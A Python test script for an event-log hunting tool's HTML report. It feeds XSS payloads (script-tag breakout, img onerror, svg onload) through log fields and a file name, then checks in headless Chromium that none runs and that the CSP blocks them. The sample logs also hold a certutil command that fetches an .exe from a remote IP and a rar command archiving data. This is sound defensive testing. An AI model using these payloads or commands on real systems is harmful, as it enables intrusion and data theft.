#!/usr/bin/env python3
"""The HTML report in a real browser (headless Chromium).

1. Event logs whose command lines, user names and host names hold HTML and
   script payloads are written with the project's evtxgen, hunted with
   `plainsight hunt --html`, and the page is loaded: no payload ran (the
   title is unchanged, no injected element is in the DOM), the views were
   built (so the page's own script did run), and the payloads show as text.
2. The same page with a script tag slipped in (as an escaping bug would)
   shows that the Content-Security-Policy blocks it.
3. `plainsight scan --html` on a file whose name is a payload: the same.
4. A screenshot of a normal report is decoded (PNG, zlib + struct only) and
   must not be blank.

Skipped (exit 77) when chromium or evtxgen is absent.
"""

import json
import os
import shutil
import struct
import subprocess
import sys
import tempfile
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pslib  # noqa: E402

TITLE = "plainsight report"
SECURITY_PROVIDER = ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-A5BA-3E3B0328C30D}")
RDP_CHANNEL = "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational"
RDP_PROVIDER = ("Microsoft-Windows-TerminalServices-RemoteConnectionManager",
                "{C76BAA63-AE81-421C-B425-340B4B24157F}")

# Each payload would change the title or add an element if it ever ran or
# were parsed as HTML.
SCRIPT_PAYLOAD = "</script><script>document.title='pwned'</script>"
IMG_PAYLOAD = "<img src=x onerror=\"document.title='pwned-img'\" id=injected-img>"
SVG_PAYLOAD = "<svg onload=\"document.title='pwned-svg'\" id=injected-svg>"
USER_PAYLOAD = "</script><b id=injected-user>eve</b>"

RULES = {
    "process.yml": """title: Command Shell Started
id: 22222222-0000-4000-8000-000000000001
status: stable
level: high
tags: [attack.execution, attack.t1059.003]
logsource: {product: windows, service: security}
detection:
  sel:
    EventID: 4688
  condition: sel
""",
    "rdp.yml": """title: Remote Desktop Logon
id: 22222222-0000-4000-8000-000000000002
status: stable
level: medium
tags: [attack.lateral_movement, attack.t1021.001]
logsource: {product: windows, service: security}
detection:
  sel:
    EventID: 4624
    LogonType: 10
  condition: sel
""",
}


def system(provider, event_id, time, rid, channel, computer):
    return ["System",
            ["Provider", {"Name": provider[0], "Guid": provider[1]}],
            ["EventID", str(event_id)],
            ["TimeCreated", {"SystemTime": time}],
            ["EventRecordID", str(rid)],
            ["Channel", channel],
            ["Computer", computer]]


def record(rid, time, sys_tree, body):
    return {"id": rid, "time": time,
            "tree": ["Event", {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
                     sys_tree, body]}


def event_data(**fields):
    return ["EventData"] + [["Data", {"Name": k}, v] for k, v in fields.items()]


def security(rid, time, event_id, computer, **fields):
    return record(rid, time, system(SECURITY_PROVIDER, event_id, time, rid, "Security", computer),
                  event_data(**fields))


def process(rid, time, computer, user, cmd):
    return security(rid, time, 4688, computer, SubjectUserName=user,
                    NewProcessName="C:\\Windows\\System32\\cmd.exe", CommandLine=cmd)


def logon(rid, time, computer, logon_type, user, domain, workstation, ip):
    return security(rid, time, 4624, computer, TargetUserName=user, TargetDomainName=domain,
                    LogonType=str(logon_type), WorkstationName=workstation, IpAddress=ip)


def rdp_auth(rid, time, computer, user, domain, ip):
    body = ["UserData", ["EventXML", {"xmlns": "Event_NS"}, ["Param1", user], ["Param2", domain],
                         ["Param3", ip]]]
    return record(rid, time, system(RDP_PROVIDER, 1149, time, rid, RDP_CHANNEL, computer), body)


def normal_records():
    """A provider's admin hops into a customer network, then moves on."""
    jump, fs = "JUMP01.customer.local", "FS01.customer.local"
    return [
        rdp_auth(1, "2024-05-01T08:59:58Z", jump, "svc_msp", "MSP", "203.0.113.10"),
        logon(2, "2024-05-01T09:00:00Z", jump, 10, "svc_msp", "MSP", "MSP-ADMIN01", "203.0.113.10"),
        process(3, "2024-05-01T09:05:00Z", jump, "svc_msp",
                "certutil -urlcache -split -f http://198.51.100.7/t.exe t.exe"),
        logon(4, "2024-05-01T09:20:00Z", fs, 3, "administrator", "CUSTOMER", "JUMP01", "10.1.1.5"),
        logon(5, "2024-05-01T09:21:00Z", fs, 3, "administrator", "CUSTOMER", "JUMP01", "10.1.1.5"),
        process(6, "2024-05-01T09:30:00Z", fs, "administrator", "rar a -hp x C:\\out.rar C:\\Data"),
    ]


def hostile_records():
    host = "WS-" + SVG_PAYLOAD
    return [
        process(1, "2024-05-02T10:00:00Z", "WS01.customer.local", USER_PAYLOAD,
                "cmd.exe /c echo \"" + SCRIPT_PAYLOAD + "\""),
        process(2, "2024-05-02T10:01:00Z", host, "alice", "cmd.exe /c " + IMG_PAYLOAD),
        logon(3, "2024-05-02T10:02:00Z", "WS01.customer.local", 10, USER_PAYLOAD, "MSP",
              IMG_PAYLOAD, "10.9.9.9"),
        rdp_auth(4, "2024-05-02T10:03:00Z", "WS01.customer.local", SCRIPT_PAYLOAD, "MSP",
                 "10.9.9.9"),
    ]


def find_chromium():
    for name in ("chromium", "chromium-browser"):
        path = shutil.which(name)
        if path:
            return path
    return None


def chromium(browser, profile, *args):
    cmd = [browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
           "--no-first-run", "--disable-background-networking", "--disable-component-update",
           "--disable-sync", "--user-data-dir=" + profile] + list(args)
    return subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=180)


def png_pixels(path):
    """(width, height, rows of RGB(A) bytes) of an 8-bit RGB/RGBA PNG."""
    with open(path, "rb") as f:
        data = f.read()
    if data[:8] != b"\x89PNG\r\n\x1a\n":
        raise ValueError("not a PNG")
    pos, idat, width = 8, b"", 0
    while pos < len(data):
        length, kind = struct.unpack(">I4s", data[pos:pos + 8])
        body = data[pos + 8:pos + 8 + length]
        if kind == b"IHDR":
            width, height, depth, colour = struct.unpack(">IIBB", body[:10])
            if depth != 8 or colour not in (2, 6):
                raise ValueError("unsupported PNG depth %d colour %d" % (depth, colour))
            bpp = 3 if colour == 2 else 4
        elif kind == b"IDAT":
            idat += body
        pos += 12 + length
    raw = zlib.decompress(idat)
    stride = width * bpp
    rows, prev = [], bytearray(stride)
    for y in range(height):
        base = y * (stride + 1)
        ftype, line = raw[base], bytearray(raw[base + 1:base + 1 + stride])
        for i in range(stride):
            a = line[i - bpp] if i >= bpp else 0
            b = prev[i]
            c = prev[i - bpp] if i >= bpp else 0
            if ftype == 1:
                line[i] = (line[i] + a) & 255
            elif ftype == 2:
                line[i] = (line[i] + b) & 255
            elif ftype == 3:
                line[i] = (line[i] + (a + b) // 2) & 255
            elif ftype == 4:
                p = a + b - c
                pa, pb, pc = abs(p - a), abs(p - b), abs(p - c)
                line[i] = (line[i] + (a if pa <= pb and pa <= pc else b if pb <= pc else c)) & 255
        rows.append(bytes(line))
        prev = line
    return width, height, bpp, rows


class Checker:
    def __init__(self):
        self.passed = self.failed = 0

    def check(self, name, ok, detail=""):
        if ok:
            self.passed += 1
            print("ok   " + name)
        else:
            self.failed += 1
            print("FAIL %s %s" % (name, detail))


def write_case(tmp, name, records, evtxgen):
    desc = os.path.join(tmp, name + ".json")
    with open(desc, "w") as f:
        json.dump({"records": records}, f)
    logs = os.path.join(tmp, name)
    os.mkdir(logs)
    rc, _, err = pslib.run([evtxgen, desc, os.path.join(logs, "case.evtx")])
    if rc != 0:
        print("FAIL evtxgen: " + pslib.last_line(err))
        pslib.finish(0, 1)
    return logs


def title_of(dom):
    start = dom.find("<title>")
    return dom[start + 7:dom.find("</title>", start)] if start >= 0 else None


def check_hostile(c, browser, exe, rules, tmp, evtxgen):
    logs = write_case(tmp, "hostile", hostile_records(), evtxgen)
    page = os.path.join(tmp, "hostile.html")
    rc, _, err = pslib.run([exe, "hunt", "-q", "-r", rules, "-f", "csv", "-o", os.devnull,
                            "--html", page, logs])
    c.check("hunt --html exits 1 (detections found)", rc == 1, pslib.last_line(err))
    if not os.path.exists(page):
        return None
    with open(page, encoding="utf-8") as f:
        html = f.read()
    c.check("page has a strict CSP", "default-src 'none'" in html and "script-src 'sha256-" in html)
    res = chromium(browser, tempfile.mkdtemp(dir=tmp), "--dump-dom", page)
    dom = res.stdout.decode("utf-8", "replace")
    c.check("chromium dumped the DOM", res.returncode == 0 and "<body" in dom,
            res.stderr.decode("utf-8", "replace")[-300:])
    c.check("title unchanged (no payload ran)", title_of(dom) == TITLE, repr(title_of(dom)))
    for marker in ("injected-img", "injected-svg", "injected-user"):
        c.check("no injected element " + marker, ('id="%s"' % marker) not in dom)
    c.check("no <img> or <b> element in the DOM", "<img" not in dom and "<b " not in dom)
    c.check("the page's own script built the views",
            "detections match" in dom and 'class="timeline"' in dom and "<svg" in dom)
    for name, text in (("script", SCRIPT_PAYLOAD), ("img", IMG_PAYLOAD), ("svg", SVG_PAYLOAD),
                       ("user", USER_PAYLOAD)):
        shown = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        c.check("payload %s shown literally as text" % name, shown in dom)
    return html


def check_csp_blocks(c, browser, html, tmp):
    """An escaping bug simulated: a script element added to the body."""
    page = os.path.join(tmp, "injected.html")
    with open(page, "w", encoding="utf-8") as f:
        f.write(html.replace("<main id=\"app\">",
                             "<main id=\"app\"><script>document.title='pwned-csp'</script>", 1))
    res = chromium(browser, tempfile.mkdtemp(dir=tmp), "--dump-dom", page)
    dom = res.stdout.decode("utf-8", "replace")
    c.check("CSP blocks a script that got into the page", title_of(dom) == TITLE,
            repr(title_of(dom)))


def check_scan(c, browser, exe, tmp):
    """scan --html: a file whose name is a payload, flagged by a YARA rule."""
    root = os.path.join(tmp, "sweep")
    os.mkdir(root)
    with open(os.path.join(root, "x" + IMG_PAYLOAD.replace("/", "") + ".txt"), "w") as f:
        f.write("REPORT_TEST_MARKER\n")
    rule = os.path.join(tmp, "marker.yar")
    with open(rule, "w") as f:
        f.write('rule Report_Marker { meta: description = "%s" score = 80\n'
                '  strings: $a = "REPORT_TEST_MARKER" condition: $a }\n'
                % USER_PAYLOAD.replace('"', '\\"'))
    page = os.path.join(tmp, "scan.html")
    rc, _, err = pslib.run([exe, "scan", root, "--yara", rule, "--quiet", "-o", os.devnull,
                            "--html", page])
    c.check("scan --html exits 1 (findings)", rc == 1 and os.path.exists(page),
            pslib.last_line(err))
    if not os.path.exists(page):
        return
    res = chromium(browser, tempfile.mkdtemp(dir=tmp), "--dump-dom", page)
    dom = res.stdout.decode("utf-8", "replace")
    c.check("scan report: title unchanged, no injected element",
            title_of(dom) == TITLE and 'id="injected' not in dom and "<img" not in dom)
    c.check("scan report lists the finding as text",
            "Scan findings" in dom and "Report_Marker" in dom and
            USER_PAYLOAD.replace("<", "&lt;").replace(">", "&gt;") in dom)


def check_screenshot(c, browser, exe, rules, tmp, evtxgen):
    logs = write_case(tmp, "normal", normal_records(), evtxgen)
    page = os.path.join(tmp, "normal.html")
    rc, _, err = pslib.run([exe, "hunt", "-q", "-r", rules, "-f", "csv", "-o", os.devnull,
                            "--html", page, logs])
    c.check("normal report written", rc == 1 and os.path.exists(page), pslib.last_line(err))
    res = chromium(browser, tempfile.mkdtemp(dir=tmp), "--dump-dom", page)
    dom = res.stdout.decode("utf-8", "replace")
    c.check("provider's hop marked foreign in the graph", "edge-foreign" in dom)
    c.check("cross-host table lists the hop", 'class="foreign"' in dom and "svc_msp" in dom)
    shot = os.path.join(tmp, "normal.png")
    res = chromium(browser, tempfile.mkdtemp(dir=tmp), "--screenshot=" + shot,
                   "--window-size=1280,2000", page)
    if not os.path.exists(shot):
        c.check("screenshot written", False, res.stderr.decode("utf-8", "replace")[-300:])
        return
    width, height, bpp, rows = png_pixels(shot)
    colours, counts = set(), {}
    for row in rows[::4]:
        for x in range(0, width * bpp, bpp * 4):
            px = row[x:x + 3]
            colours.add(px)
            counts[px] = counts.get(px, 0) + 1
    background = max(counts.values()) / sum(counts.values())
    c.check("screenshot is 1280x2000", (width, height) == (1280, 2000), "%dx%d" % (width, height))
    c.check("screenshot is not blank (%d colours, %.0f%% background)"
            % (len(colours), background * 100), len(colours) >= 16 and background < 0.95)
    keep = os.environ.get("PS_REPORT_SCREENSHOT")
    if keep:
        shutil.copy(shot, keep)


def main():
    args = pslib.parse_args(__doc__)
    exe = os.path.abspath(args.plainsight)
    evtxgen = os.path.join(args.build_dir, "tools", "evtxgen", "evtxgen")
    browser = find_chromium()
    if not browser:
        pslib.skip("chromium not installed (Debian package 'chromium'; scripts/install-deps)")
    if not os.path.exists(evtxgen):
        pslib.skip("evtxgen not built at %s" % evtxgen)
    c = Checker()
    with tempfile.TemporaryDirectory(prefix="ps_report_") as tmp:
        rules = os.path.join(tmp, "rules")
        os.mkdir(rules)
        for name, text in RULES.items():
            with open(os.path.join(rules, name), "w") as f:
                f.write(text)
        html = check_hostile(c, browser, exe, rules, tmp, evtxgen)
        if html:
            check_csp_blocks(c, browser, html, tmp)
        check_scan(c, browser, exe, tmp)
        check_screenshot(c, browser, exe, rules, tmp, evtxgen)
    pslib.finish(c.passed, c.failed)


if __name__ == "__main__":
    main()
